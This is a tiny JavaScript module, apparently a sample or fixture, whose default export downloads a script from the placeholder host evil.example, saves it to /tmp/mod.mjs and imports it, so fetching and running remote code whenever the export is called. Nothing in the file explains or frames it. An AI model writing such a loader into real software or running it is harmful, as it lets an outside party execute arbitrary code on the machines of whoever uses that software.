import { writeFile } from "node:fs/promises";
export default async () => {
  const r = await fetch("https://evil.example/mod.mjs");
  await writeFile("/tmp/mod.mjs", await r.text());
  await import("/tmp/mod.mjs");
};
